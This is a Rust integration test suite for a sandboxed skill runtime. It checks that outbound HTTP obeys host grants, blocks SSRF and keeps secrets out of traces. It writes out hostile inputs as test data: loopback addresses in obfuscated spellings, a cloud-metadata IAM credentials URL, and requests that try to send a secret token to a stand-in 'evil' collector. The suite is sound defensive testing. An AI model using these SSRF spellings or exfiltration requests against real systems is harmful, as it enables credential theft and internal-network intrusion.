//! Outbound HTTP and secrets, end to end (issues 4, 12), over both HTTP interfaces: each
//! test runs with `probe` (runproof:skill/http) and with `probe_wasi_http` (standard
//! wasi:http/outgoing-handler), see `over_both_interfaces!`. A skill tries to
//! reach what it was not granted, or to send a secret where it must not go. For each: the
//! runtime survives, the run ends `failed` with the reason, the denied attempt is a recorded
//! `host.http` step, the server behind the forbidden destination is never contacted, and the
//! proof is VERIFIED. Secrets that are used correctly reach their host, and neither the
//! skill nor any stored step ever holds the value.

mod support;

use serde_json::{Value, json};
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use support::*;

// ---------------------------------------------------------------------------------------
// Loopback servers for these tests (real HTTP/1.1 on 127.0.0.1).

/// What a server does with one parsed request: returns (status, extra header lines, body).
type Handler = dyn Fn(&Received) -> (u16, String, Vec<u8>) + Send + Sync;

#[derive(Debug, Clone)]
struct Received {
    path: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

struct Server {
    port: u16,
    hits: Arc<AtomicUsize>,
    received: Arc<Mutex<Vec<Received>>>,
}

impl Server {
    fn start(handler: Arc<Handler>) -> Server {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind loopback");
        let port = listener.local_addr().unwrap().port();
        let hits = Arc::new(AtomicUsize::new(0));
        let received = Arc::new(Mutex::new(Vec::new()));
        let (h, r) = (hits.clone(), received.clone());
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (h, r, handler) = (h.clone(), r.clone(), handler.clone());
                std::thread::spawn(move || {
                    let _ = serve(stream, &h, &r, &*handler);
                });
            }
        });
        Server {
            port,
            hits,
            received,
        }
    }

    /// 200 with a small JSON body.
    fn ok() -> Server {
        Server::start(Arc::new(|_| {
            (
                200,
                "Content-Type: application/json\r\n".into(),
                br#"{"ok":true}"#.to_vec(),
            )
        }))
    }

    /// Echoes the request: its `authorization` header in an `x-echo` response header, and
    /// path, headers and body in the JSON body.
    fn echo() -> Server {
        Server::start(Arc::new(|r: &Received| {
            let auth = r
                .headers
                .iter()
                .find(|(k, _)| k.eq_ignore_ascii_case("authorization"))
                .map(|(_, v)| v.clone());
            let extra = match &auth {
                Some(v) => format!("X-Echo: {v}\r\n"),
                None => String::new(),
            };
            let body = json!({"path": r.path, "authorization": auth, "body": String::from_utf8_lossy(&r.body)});
            (200, extra, body.to_string().into_bytes())
        }))
    }

    /// 302 to `target` for every request.
    fn redirect_to(target: String) -> Server {
        Server::start(Arc::new(move |_| {
            (302, format!("Location: {target}\r\n"), Vec::new())
        }))
    }

    fn url(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}{path}", self.port)
    }

    fn hits(&self) -> usize {
        self.hits.load(Ordering::SeqCst)
    }

    fn received(&self) -> Vec<Received> {
        self.received.lock().unwrap().clone()
    }
}

fn serve(
    stream: TcpStream,
    hits: &AtomicUsize,
    received: &Mutex<Vec<Received>>,
    handler: &Handler,
) -> std::io::Result<()> {
    let mut reader = BufReader::new(stream.try_clone()?);
    let mut request_line = String::new();
    reader.read_line(&mut request_line)?;
    let mut headers = Vec::new();
    let mut content_length = 0usize;
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line)? == 0 || line == "\r\n" {
            break;
        }
        if let Some((k, v)) = line.split_once(':') {
            let (k, v) = (k.trim().to_string(), v.trim().to_string());
            if k.eq_ignore_ascii_case("content-length") {
                content_length = v.parse().unwrap_or(0);
            }
            headers.push((k, v));
        }
    }
    let mut body = vec![0; content_length];
    reader.read_exact(&mut body)?;
    hits.fetch_add(1, Ordering::SeqCst);
    let req = Received {
        path: request_line
            .split_whitespace()
            .nth(1)
            .unwrap_or("/")
            .to_string(),
        headers,
        body,
    };
    received.lock().unwrap().push(req.clone());
    let (status, extra, body) = handler(&req);
    let mut s = stream;
    write!(
        s,
        "HTTP/1.1 {status} X\r\nContent-Length: {}\r\nConnection: close\r\n{extra}\r\n",
        body.len()
    )?;
    s.write_all(&body)?;
    s.flush()
}

/// A server that accepts, then trickles a never-ending response head one byte every
/// 200 ms (slowloris from the server side). Gives up after 120 s so nothing leaks forever.
fn trickling_server() -> (u16, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind loopback");
    let port = listener.local_addr().unwrap().port();
    let hits = Arc::new(AtomicUsize::new(0));
    let counter = hits.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            counter.fetch_add(1, Ordering::SeqCst);
            std::thread::spawn(move || {
                // Read the request head first, as a real server would.
                let mut reader = BufReader::new(match stream.try_clone() {
                    Ok(s) => s,
                    Err(_) => return,
                });
                let mut line = String::new();
                while reader.read_line(&mut line).is_ok_and(|n| n > 0) && line != "\r\n" {
                    line.clear();
                }
                let mut s = stream;
                let _ = s.write_all(b"HTTP/1.1 200 OK\r\n");
                let started = Instant::now();
                while started.elapsed() < Duration::from_secs(120) {
                    if s.write_all(b"X").and_then(|_| s.flush()).is_err() {
                        break; // the client hung up: what we want
                    }
                    std::thread::sleep(Duration::from_millis(200));
                }
            });
        }
    });
    (port, hits)
}

// ---------------------------------------------------------------------------------------
// Runs.

fn probe_plan(p: Probe, actions: &[String]) -> Value {
    json!({"planner": "e2e", "steps": [{"step_id": "net", "skill": p.skill(), "params": {"actions": actions}}]})
}

fn request_action(spec: Value) -> String {
    format!("request:{spec}")
}

fn get_action(url: &str) -> String {
    request_action(json!({"url": url}))
}

/// An agent for `tenant` with `hosts` and `secrets` granted.
fn agent_with(tenant: &str, hosts: &[&str], secrets: &[&str]) -> String {
    let mut args = vec![
        "--json",
        "agent",
        "create",
        "--name",
        "e2e-net",
        "--tenant-id",
        tenant,
    ];
    for h in hosts {
        args.extend(["--allow-host", h]);
    }
    for s in secrets {
        args.extend(["--allow-secret", s]);
    }
    runtime(&args).ok().json()["agent_id"]
        .as_str()
        .expect("agent_id")
        .to_string()
}

/// `runtime secret set NAME` with `value` on stdin.
fn set_secret(tenant: &str, name: &str, value: &str, hosts: &[&str]) -> Value {
    let mut args = vec!["--json", "secret", "set", name, "--tenant-id", tenant];
    for h in hosts {
        args.extend(["--allow-host", h]);
    }
    let mut child = runtime_cmd()
        .args(&args)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // Written with a trailing newline, as `echo` would: it must be trimmed.
    child
        .stdin
        .take()
        .unwrap()
        .write_all(format!("{value}\n").as_bytes())
        .unwrap();
    let r: Run = child.wait_with_output().unwrap().into();
    r.ok().json()
}

/// Every stored payload of `run_id`, as text (lossy), in step order.
async fn payloads(run_id: &str) -> Vec<String> {
    stored_payloads(run_id)
        .await
        .iter()
        .map(|b| String::from_utf8_lossy(b).into_owned())
        .collect()
}

/// The host.http steps of `run_id` (payload JSON).
async fn http_steps(run_id: &str) -> Vec<Value> {
    payloads(run_id)
        .await
        .iter()
        .map(|p| serde_json::from_str::<Value>(p).unwrap())
        .filter(|v| v["kind"] == "host.http")
        .collect()
}

/// Asserts the run's proof is VERIFIED.
fn verified(run_id: &str, tenant: &str) {
    let (code, p) = proof(run_id, tenant);
    assert_eq!(code, 0, "{p}");
    assert_eq!(p["integrity"]["verification_status"], "VERIFIED", "{p}");
}

/// Runs `actions` as the probe under an agent granted `hosts`, expects a failed run whose
/// last host.http step is a recorded denial containing `reason`; returns (run_id, message).
async fn denied_run(
    p: Probe,
    name: &str,
    hosts: &[&str],
    actions: &[String],
    reason: &str,
) -> (String, String) {
    add_test_skill(p.skill());
    let tenant = tenant(name);
    let agent_id = agent_with(&tenant, hosts, &[]);
    denied_run_as(p, &tenant, &agent_id, actions, reason).await
}

async fn denied_run_as(
    p: Probe,
    tenant: &str,
    agent_id: &str,
    actions: &[String],
    reason: &str,
) -> (String, String) {
    let r = run_plan(agent_id, tenant, &probe_plan(p, actions));
    assert_eq!(r.code, 3, "a denied request fails the run (exit 3): {r:?}");
    let report = r.json();
    assert_eq!(report["status"], "failed");
    let error = report["error_message"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert!(
        error.contains("http-denied"),
        "the run's reason names the denial: {error}"
    );
    let run_id = report["run_id"].as_str().unwrap().to_string();
    let http = http_steps(&run_id).await;
    let last = http.last().expect("the denied attempt is a recorded step");
    assert_eq!(last["status"], "failure", "{last}");
    assert_eq!(last["body"]["error"]["code"], "denied", "{last}");
    let message = last["body"]["error"]["message"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        message.contains(reason),
        "denial {message:?} should say {reason:?}"
    );
    // Our interface hands the reason to the skill; the standard one has a code only
    // (HTTP-request-denied): the reason is in the recorded step either way (above).
    if p == Probe::Runproof {
        assert!(
            error.contains(reason),
            "the run's error should carry the reason {reason:?}: {error}"
        );
    }
    verified(&run_id, tenant);
    (run_id, message)
}

// ---------------------------------------------------------------------------------------
// SSRF.

async fn loopback_is_denied_under_a_wildcard_grant(p: Probe) {
    let server = Server::ok();
    denied_run(
        p,
        "net-loopback",
        &["http://*:*"],
        &[get_action(&server.url("/ok"))],
        "127.0.0.1 is a loopback address",
    )
    .await;
    assert_eq!(
        server.hits(),
        0,
        "a denied destination must not be contacted"
    );
}

async fn cloud_metadata_is_denied(p: Probe) {
    let (_, m) = denied_run(
        p,
        "net-metadata",
        &["http://*:*", "http://169.254.0.0/16:*"],
        &[get_action(
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        )],
        "169.254.169.254 is a cloud metadata address",
    )
    .await;
    assert!(m.contains("by its exact IP"), "{m}");
    denied_run(
        p,
        "net-metadata6",
        &["http://*:*"],
        &[get_action("http://[fd00:ec2::254]/latest/")],
        "cloud metadata",
    )
    .await;
}

async fn private_address_by_decimal_ip_is_denied(p: Probe) {
    // 167772161 = 10.0.0.1.
    denied_run(
        p,
        "net-decimal",
        &["http://*:*"],
        &[get_action("http://167772161/")],
        "10.0.0.1 is a private (RFC 1918) address",
    )
    .await;
}

async fn loopback_by_octal_hex_short_and_ipv4_mapped_spellings_is_denied(p: Probe) {
    let server = Server::ok();
    let port = server.port;
    for (i, url) in [
        format!("http://0177.0.0.1:{port}/ok"),
        format!("http://0x7f.1:{port}/ok"),
        format!("http://0X7F000001:{port}/ok"),
        format!("http://2130706433:{port}/ok"),
        format!("http://127.1:{port}/ok"),
        format!("http://127.0.0.1.:{port}/ok"),
        format!("http://[::ffff:127.0.0.1]:{port}/ok"),
        format!("http://[::ffff:7f00:1]:{port}/ok"),
    ]
    .iter()
    .enumerate()
    {
        denied_run(
            p,
            &format!("net-spelling{i}"),
            &["http://*:*"],
            &[get_action(url)],
            "127.0.0.1 is a loopback address",
        )
        .await;
    }
    assert_eq!(server.hits(), 0);
}

async fn a_name_that_resolves_to_loopback_is_denied(p: Probe) {
    let server = Server::ok();
    let url = format!("http://localhost:{}/ok", server.port);
    denied_run(
        p,
        "net-localhost",
        &["http://*:*"],
        &[get_action(&url)],
        "(localhost resolves to it)",
    )
    .await;
    assert_eq!(server.hits(), 0);
}

async fn a_redirect_from_an_allowed_host_to_loopback_is_denied(p: Probe) {
    let internal = Server::ok();
    let front = Server::redirect_to(internal.url("/admin"));
    // The front server is granted by its exact address and port; anything else only by `*`.
    let grant = format!("http://127.0.0.1:{}", front.port);
    let (_, m) = denied_run(
        p,
        "net-redirect",
        &[&grant, "http://*:*"],
        &[get_action(&front.url("/start"))],
        "127.0.0.1 is a loopback address",
    )
    .await;
    match p {
        // The host follows the redirect, checking the hop from scratch.
        Probe::Runproof => assert!(m.starts_with("redirect hop 1:"), "{m}"),
        // The skill follows it, with a new request the host checks from scratch.
        Probe::WasiHttp => assert!(!m.contains("redirect hop"), "{m}"),
    }
    assert_eq!(front.hits(), 1, "the allowed host was asked");
    assert_eq!(
        internal.hits(),
        0,
        "the redirect target must not be contacted"
    );
}

async fn a_slow_server_cannot_hold_the_run(p: Probe) {
    add_test_skill(p.skill());
    let (port, hits) = trickling_server();
    let tenant = tenant("net-slow");
    let agent_id = agent_with(&tenant, &["http://127.0.0.1:*"], &[]);
    let started = Instant::now();
    let action =
        request_action(json!({"url": format!("http://127.0.0.1:{port}/"), "timeout_ms": 1000}));
    let r = run_plan(&agent_id, &tenant, &probe_plan(p, &[action]));
    // Generous bound: the server would trickle for 120 s.
    assert!(
        started.elapsed() < Duration::from_secs(60),
        "the run was held for {:?}",
        started.elapsed()
    );
    assert_eq!(r.code, 3, "{r:?}");
    assert!(hits.load(Ordering::SeqCst) >= 1, "the server was reached");
    let run_id = r.json()["run_id"].as_str().unwrap().to_string();
    let http = http_steps(&run_id).await;
    assert_eq!(http[0]["body"]["error"]["code"], "timeout", "{}", http[0]);
    assert!(
        http[0]["body"]["error"]["message"]
            .as_str()
            .unwrap()
            .contains("timeout of 1000 ms"),
        "{}",
        http[0]
    );
    verified(&run_id, &tenant);
}

/// A response over the body cap is `too-large` for both interfaces; the step records
/// which cap (`cause`), and that cause, not the message's wording, is what gives a
/// `wasi:http` guest `HTTP-response-body-size`.
async fn a_response_over_the_body_cap_is_too_large_and_names_its_cause(p: Probe) {
    add_test_skill(p.skill());
    let server = Server::start(Arc::new(|_: &Received| {
        (200, String::new(), vec![b'x'; (8 << 20) + 1])
    }));
    let tenant = tenant("net-big-body");
    let agent_id = agent_with(&tenant, &["http://127.0.0.1:*"], &[]);
    let r = run_plan(
        &agent_id,
        &tenant,
        &probe_plan(p, &[get_action(&server.url("/big"))]),
    );
    assert_eq!(r.code, 3, "{r:?}");
    let report = r.json();
    let error = report["error_message"].as_str().unwrap_or_default();
    assert!(error.contains(": http-too-large: "), "{error}");
    let seen = match p {
        Probe::Runproof => "(max_response_body)",
        Probe::WasiHttp => "HttpResponseBodySize",
    };
    assert!(error.contains(seen), "{error}");
    let run_id = report["run_id"].as_str().unwrap().to_string();
    let http = http_steps(&run_id).await;
    assert_eq!(http.len(), 1, "{http:?}");
    let recorded = &http[0]["body"]["error"];
    assert_eq!(recorded["code"], "too-large", "{recorded}");
    assert_eq!(recorded["cause"], "response-body", "{recorded}");
    verified(&run_id, &tenant);
}

async fn a_slow_server_cannot_hold_the_run_past_the_agents_deadline(p: Probe) {
    // No per-request timeout: the request would wait 30 s by default, the server would
    // trickle for 120 s. The agent grants 2 s per invocation, and that is what ends it.
    add_test_skill(p.skill());
    let (port, hits) = trickling_server();
    let tenant = tenant("net-deadline");
    let agent_id = runtime(&[
        "--json",
        "agent",
        "create",
        "--name",
        "e2e-deadline",
        "--tenant-id",
        &tenant,
        "--allow-host",
        "http://127.0.0.1:*",
        "--timeout",
        "2s",
    ])
    .ok()
    .json()["agent_id"]
        .as_str()
        .unwrap()
        .to_string();
    let started = Instant::now();
    let r = run_plan(
        &agent_id,
        &tenant,
        &probe_plan(p, &[get_action(&format!("http://127.0.0.1:{port}/"))]),
    );
    // Generous bound, well under the 30 s request default and the server's 120 s.
    assert!(
        started.elapsed() < Duration::from_secs(20),
        "the run was held for {:?}",
        started.elapsed()
    );
    assert_eq!(r.code, 3, "{r:?}");
    assert!(hits.load(Ordering::SeqCst) >= 1, "the server was reached");
    let report = r.json();
    let error = report["error_message"].as_str().unwrap_or_default();
    assert!(
        error.contains("deadline"),
        "the reason names the deadline: {error}"
    );
    verified(report["run_id"].as_str().unwrap(), &tenant);
}

// ---------------------------------------------------------------------------------------
// Secrets.

const VALUE: &str = "sk-e2e-7f3a9c1d5b";

async fn secret_exfiltration_to_another_host_in_the_url_or_body_is_denied(p: Probe) {
    add_test_skill(p.skill());
    let good = Server::echo();
    let evil = Server::echo();
    let tenant = tenant("net-exfil");
    set_secret(
        &tenant,
        "TOKEN",
        VALUE,
        &[&format!("http://127.0.0.1:{}", good.port)],
    );
    let agent_id = agent_with(&tenant, &["http://127.0.0.1:*"], &["TOKEN"]);
    let denial = format!(
        "secret TOKEN is not granted for host http://127.0.0.1:{}",
        evil.port
    );

    let in_url = get_action(&evil.url("/collect?k={{secret:TOKEN}}"));
    let (run1, _) = denied_run_as(p, &tenant, &agent_id, &[in_url], &denial).await;
    let in_body = request_action(
        json!({"method": "POST", "url": evil.url("/collect"), "body": "stolen={{secret:TOKEN}}"}),
    );
    let (run2, _) = denied_run_as(p, &tenant, &agent_id, &[in_body], &denial).await;
    // In the host part the value would go to DNS before any check: refused outright.
    let in_host = get_action(&format!(
        "http://{{{{secret:TOKEN}}}}.example.com:{}/",
        good.port
    ));
    let r = run_plan(&agent_id, &tenant, &probe_plan(p, &[in_host]));
    assert_eq!(r.code, 3, "{r:?}");

    assert_eq!(evil.hits(), 0, "the other host must never be contacted");
    assert_eq!(good.hits(), 0);
    for run in [run1, run2] {
        for p in payloads(&run).await {
            assert!(
                !p.contains(VALUE),
                "a stored step holds the secret value: {p}"
            );
        }
    }
}

async fn a_secret_reaches_its_allowed_host_and_never_the_trace(p: Probe) {
    add_test_skill(p.skill());
    let server = Server::ok();
    let tenant = tenant("net-secret-ok");
    let info = set_secret(
        &tenant,
        "TOKEN",
        VALUE,
        &[&format!("http://127.0.0.1:{}", server.port)],
    );
    assert_eq!(info["name"], "TOKEN");
    assert!(!info.to_string().contains(VALUE));
    // Stored for the tenant but not granted to the agent: not in the effective set.
    set_secret(&tenant, "OTHER", "other-value-123", &["http://127.0.0.1:*"]);
    let listed = runtime(&["--json", "secret", "list", "--tenant-id", &tenant]).ok();
    assert!(
        !listed.stdout.contains(VALUE)
            && listed.stdout.contains("TOKEN")
            && listed.stdout.contains("OTHER"),
        "{}",
        listed.stdout
    );

    // The grant names 127.0.0.1 explicitly (the special-address rule).
    let agent_id = agent_with(&tenant, &["http://127.0.0.1:*"], &["TOKEN"]);
    let action = request_action(json!({
        "method": "POST",
        "url": server.url("/use?key={{secret:TOKEN}}"),
        "headers": [["authorization", "Bearer {{secret:TOKEN}}"]],
        "body": "{\"token\":\"{{secret:TOKEN}}\"}",
    }));
    let r = run_plan(&agent_id, &tenant, &probe_plan(p, &[action]));
    assert_eq!(r.code, 0, "{r:?}");
    assert!(
        !r.stdout.contains(VALUE),
        "the skill's output holds the value: {}",
        r.stdout
    );

    // The server got the value in all three places.
    let got = server.received();
    assert_eq!(got.len(), 1);
    assert_eq!(got[0].path, format!("/use?key={VALUE}"));
    assert!(
        got[0].headers.iter().any(
            |(k, v)| k.eq_ignore_ascii_case("authorization") && v == &format!("Bearer {VALUE}")
        )
    );
    assert_eq!(
        String::from_utf8_lossy(&got[0].body),
        format!("{{\"token\":\"{VALUE}\"}}")
    );

    // Not one stored byte of the run holds it: every step, and the run row.
    let run_id = r.json()["run_id"].as_str().unwrap().to_string();
    let all = payloads(&run_id).await;
    assert!(all.len() >= 4);
    for p in &all {
        assert!(
            !p.contains(VALUE),
            "a stored step holds the secret value: {p}"
        );
    }
    let db = superuser().await;
    let row: String = sqlx::query_scalar("SELECT row_to_json(r)::text FROM runs r WHERE id = $1")
        .bind(&run_id)
        .fetch_one(&db)
        .await
        .unwrap();
    assert!(!row.contains(VALUE));
    let stored: Vec<Vec<u8>> =
        sqlx::query_scalar("SELECT ciphertext FROM tenant_secrets WHERE tenant_id = $1")
            .bind(&tenant)
            .fetch_all(&db)
            .await
            .unwrap();
    assert!(
        stored
            .iter()
            .all(|c| !c.windows(VALUE.len()).any(|w| w == VALUE.as_bytes())),
        "values are encrypted at rest"
    );

    // The trace records the placeholder, and run.start lists the effective names only.
    let http = http_steps(&run_id).await;
    assert!(
        http[0]["body"]["request"]["headers"][0][1] == "Bearer {{secret:TOKEN}}",
        "{}",
        http[0]
    );
    let start: Value = serde_json::from_str(&all[0]).unwrap();
    assert_eq!(
        start["body"]["policy"]["secrets"][p.skill()],
        json!(["TOKEN"]),
        "{start}"
    );
    verified(&run_id, &tenant);

    // OTHER exists but is not granted to the agent: using it is a recorded denial.
    let other =
        request_action(json!({"url": server.url("/"), "headers": [["x-k", "{{secret:OTHER}}"]]}));
    denied_run_as(
        p,
        &tenant,
        &agent_id,
        &[other],
        "secret OTHER is not available to this skill",
    )
    .await;
    assert_eq!(server.hits(), 1);

    // rm removes it; list no longer shows it.
    runtime(&["secret", "rm", "OTHER", "--tenant-id", &tenant]).ok();
    let listed = runtime(&["--json", "secret", "list", "--tenant-id", &tenant]).ok();
    assert!(!listed.stdout.contains("OTHER"), "{}", listed.stdout);
}

async fn an_echoed_secret_is_redacted_before_the_skill_and_the_trace_see_it(p: Probe) {
    add_test_skill(p.skill());
    let server = Server::echo();
    let tenant = tenant("net-echo");
    set_secret(
        &tenant,
        "TOKEN",
        VALUE,
        &[&format!("http://127.0.0.1:{}", server.port)],
    );
    let agent_id = agent_with(&tenant, &["http://127.0.0.1:*"], &["TOKEN"]);
    let action = request_action(
        json!({"url": server.url("/echo"), "headers": [["authorization", "Bearer {{secret:TOKEN}}"]]}),
    );
    let r = run_plan(&agent_id, &tenant, &probe_plan(p, &[action]));
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(
        server.received()[0]
            .headers
            .iter()
            .find(|(k, _)| k == "authorization")
            .map(|(_, v)| v.as_str()),
        Some(&*format!("Bearer {VALUE}"))
    );

    // What the skill saw (its output) has the value redacted, in headers and body.
    let out = &r.json()["steps"][0]["output"]["results"][0];
    assert!(!out.to_string().contains(VALUE), "{out}");
    let echoed: Value = serde_json::from_str(out["body"].as_str().unwrap()).unwrap();
    assert_eq!(echoed["authorization"], "Bearer [REDACTED:TOKEN]");
    assert!(
        out["headers"]
            .as_array()
            .unwrap()
            .iter()
            .any(|h| h[0] == "x-echo" && h[1] == "Bearer [REDACTED:TOKEN]"),
        "{out}"
    );

    let run_id = r.json()["run_id"].as_str().unwrap().to_string();
    for p in payloads(&run_id).await {
        assert!(
            !p.contains(VALUE),
            "a stored step holds the secret value: {p}"
        );
    }
    verified(&run_id, &tenant);
}

async fn a_redirect_never_carries_a_secret_outside_its_hosts(p: Probe) {
    add_test_skill(p.skill());
    let elsewhere = Server::echo();
    let front = Server::redirect_to(elsewhere.url("/landing"));
    let tenant = tenant("net-secret-redirect");
    // The secret may go to the front server only; the agent may reach any 127.0.0.1 port.
    set_secret(
        &tenant,
        "TOKEN",
        VALUE,
        &[&format!("http://127.0.0.1:{}", front.port)],
    );
    let agent_id = agent_with(&tenant, &["http://127.0.0.1:*"], &["TOKEN"]);
    let action = request_action(
        json!({"url": front.url("/start"), "headers": [["authorization", "Bearer {{secret:TOKEN}}"]]}),
    );
    let reason = format!(
        "{}secret TOKEN is not granted for host http://127.0.0.1:{}",
        p.hop_prefix(1),
        elsewhere.port
    );
    let (run_id, _) = denied_run_as(p, &tenant, &agent_id, &[action], &reason).await;
    assert_eq!(front.hits(), 1, "the secret's own host got the request");
    assert_eq!(
        elsewhere.hits(),
        0,
        "the redirect target must not get the secret"
    );
    for p in payloads(&run_id).await {
        assert!(
            !p.contains(VALUE),
            "a stored step holds the secret value: {p}"
        );
    }
}

#[test]
fn secret_commands_refuse_bad_input_and_never_print_values() {
    let tenant = tenant("net-secret-cli");
    // Bad name, bad pattern, empty value: refused, nothing stored.
    let bad_name = runtime(&[
        "secret",
        "set",
        "no spaces",
        "--tenant-id",
        &tenant,
        "--allow-host",
        "https://a.example",
    ]);
    assert_eq!(bad_name.code, 1, "{bad_name:?}");
    let bad_pattern = runtime(&[
        "secret",
        "set",
        "T",
        "--tenant-id",
        &tenant,
        "--allow-host",
        "api.example.com",
    ]);
    assert_eq!(bad_pattern.code, 1, "{bad_pattern:?}");
    let empty: Run = runtime_cmd()
        .args([
            "secret",
            "set",
            "T",
            "--tenant-id",
            &tenant,
            "--allow-host",
            "https://a.example",
        ])
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap()
        .into();
    assert_eq!(empty.code, 1, "{empty:?}");
    assert!(empty.stderr.contains("empty"), "{empty:?}");
    let listed = runtime(&["--json", "secret", "list", "--tenant-id", &tenant])
        .ok()
        .json();
    assert_eq!(listed, json!([]));
    // Replacing keeps one row; rm of a missing one is an error.
    set_secret(&tenant, "T", "first-value", &["https://a.example"]);
    let again = set_secret(&tenant, "T", "second-value", &["https://b.example"]);
    assert_eq!(again["allowed_hosts"], json!(["https://b.example"]));
    let listed = runtime(&["--json", "secret", "list", "--tenant-id", &tenant]).ok();
    assert!(!listed.stdout.contains("-value"), "{}", listed.stdout);
    assert_eq!(listed.json().as_array().unwrap().len(), 1);
    runtime(&["secret", "rm", "T", "--tenant-id", &tenant]).ok();
    assert_eq!(
        runtime(&["secret", "rm", "T", "--tenant-id", &tenant]).code,
        1
    );
    // The key file is private.
    use std::os::unix::fs::PermissionsExt;
    let key = home().join("keys/secrets.key");
    assert_eq!(
        std::fs::metadata(&key).unwrap().permissions().mode() & 0o777,
        0o600
    );
    assert_eq!(
        std::fs::metadata(home().join("keys"))
            .unwrap()
            .permissions()
            .mode()
            & 0o777,
        0o700
    );
}

// ---------------------------------------------------------------------------------------
// Every outbound test runs over both interfaces.

/// Which HTTP interface the skill under test uses.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Probe {
    /// `probe`: the SDK over `runproof:skill/http`.
    Runproof,
    /// `probe_wasi_http`: the `wasi` crate over standard `wasi:http/outgoing-handler`.
    WasiHttp,
}

impl Probe {
    fn skill(self) -> &'static str {
        match self {
            Probe::Runproof => "probe",
            Probe::WasiHttp => "probe_wasi_http",
        }
    }

    /// How a denial on redirect hop `n` starts: the host follows redirects of our own
    /// interface (and says which hop); a wasi:http client follows them itself, each hop a
    /// request of its own.
    fn hop_prefix(self, n: usize) -> String {
        match self {
            Probe::Runproof => format!("redirect hop {n}: "),
            Probe::WasiHttp => String::new(),
        }
    }
}

macro_rules! over_both_interfaces {
    ($($name:ident),* $(,)?) => {$(
        mod $name {
            #[tokio::test]
            async fn runproof_http() {
                super::$name(super::Probe::Runproof).await
            }
            #[tokio::test]
            async fn wasi_http() {
                super::$name(super::Probe::WasiHttp).await
            }
        }
    )*};
}

over_both_interfaces!(
    loopback_is_denied_under_a_wildcard_grant,
    cloud_metadata_is_denied,
    private_address_by_decimal_ip_is_denied,
    loopback_by_octal_hex_short_and_ipv4_mapped_spellings_is_denied,
    a_name_that_resolves_to_loopback_is_denied,
    a_redirect_from_an_allowed_host_to_loopback_is_denied,
    a_slow_server_cannot_hold_the_run,
    a_slow_server_cannot_hold_the_run_past_the_agents_deadline,
    a_response_over_the_body_cap_is_too_large_and_names_its_cause,
    secret_exfiltration_to_another_host_in_the_url_or_body_is_denied,
    a_secret_reaches_its_allowed_host_and_never_the_trace,
    an_echoed_secret_is_redacted_before_the_skill_and_the_trace_see_it,
    a_redirect_never_carries_a_secret_outside_its_hosts,
);
